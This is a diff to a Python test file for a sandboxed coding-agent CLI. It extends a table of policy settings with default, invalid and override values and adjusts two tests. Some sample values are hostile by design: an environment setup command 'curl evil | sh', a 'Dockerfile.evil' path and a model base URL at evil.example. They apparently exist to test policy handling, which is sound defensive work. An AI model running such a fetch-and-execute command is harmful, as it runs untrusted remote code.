@@ -16,7 +16,7 @@ import pytest
 import typer
 from typer.testing import CliRunner
 
-from sandbox_agent.cli.app import app
+from sandbox_agent.cli.app import COMMANDS, app, load
 from sandbox_agent.errors import UserError
 from sandbox_agent.policy.config import REPO_POLICY_NAME, lint_policy_file, load_policy
 from sandbox_agent.policy.files import PolicyFile
@@ -70,15 +70,24 @@ TABLE: dict[str, Row] = {
     "gate.max_attempts": Row(3, 0, 30, 1),
     "gate.allow_broken_baseline": Row(False, "perhaps", True),
     "gate.allow_harness_changes": Row(False, "perhaps", True),
+    "gate.require": Row("proof", "maybe", "no-regression"),
+    "gate.targets": Row((), 1, None, ["tests/test_x.py::test_y"]),
     "environment.image": Row(None, 1, "other:latest"),
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
     "environment.network_during_setup": Row(True, 2, None, False),
     "environment.auto": Row(True, "sometimes", None, False),
     "environment.timeout_s": Row(1800.0, 0, 90000.0, 60.0),
+    "environment.build_timeout_s": Row(3600.0, 0, 90000.0, 600.0),
+    "environment.memory": Row("4g", "lots", "64g", "1g"),
+    "environment.cpus": Row(2.0, 0, 16.0, 1.0),
+    "environment.pids": Row(4096, 8, 100000, 512),
     "model.name": Row("gpt-4o-mini", "", "gpt-5"),
     "model.base_url": Row(None, 1, "http://evil.example/v1"),
     "model.tool_protocol": Row("native", "xml", "json"),
+    "model.max_output_tokens": Row(4096, 0, 100_000, 1024),
+    "model.context_window": Row(None, -1, 1_000_000),
+    "model.max_tokens_param": Row("max_completion_tokens", "limit", "max_tokens"),
     "model.tools": Row(
         ("bash", "read_file", "write_file", "edit_file", "apply_patch"), ["python"], ["bash"]
     ),
@@ -216,9 +225,7 @@ def test_an_untrusted_layer_cannot_turn_runsc_back_into_another_runtime() -> Non
 
 
 def test_every_fix_flag_is_an_input_or_sets_one_field() -> None:
-    group = typer.main.get_command(app)
-    assert isinstance(group, typer.core.TyperGroup)
-    command = group.commands["fix"]
+    command = load("fix", COMMANDS["fix"])
     options = {o for p in command.params if isinstance(p, typer.core.TyperOption) for o in p.opts}
     assert options - INPUT_FLAGS == set(flag_fields())
     assert INPUT_FLAGS - {"--help"} <= options
@@ -263,9 +270,7 @@ def test_pids_below_what_the_container_accepts_is_refused_at_lint_time(tmp_path:
     file = tmp_path / "p.toml"
     file.write_text("[sandbox]\npids = 8\n")
     problems = lint_policy_file(file)
-    assert problems == [
-        f"{file}:2: [sandbox].pids: Input should be greater than or equal to 16 (got 8)"
-    ]
+    assert problems == [f"{file}:2: [sandbox].pids: must be at least 16 (got 8)"]
 
 
 def test_the_settings_reference_is_generated_from_the_tree() -> None:
